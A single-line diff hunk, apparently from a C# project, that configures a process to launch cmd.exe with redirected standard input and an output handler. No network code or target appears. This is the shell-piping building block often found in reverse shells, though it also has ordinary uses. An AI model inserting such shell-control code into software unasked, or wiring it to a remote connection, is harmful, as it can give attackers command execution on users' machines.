@@ -1,0 +1,1 @@
+i.FileName = "cmd.exe"; i.RedirectStandardInput = true; p.OutputDataReceived += x;
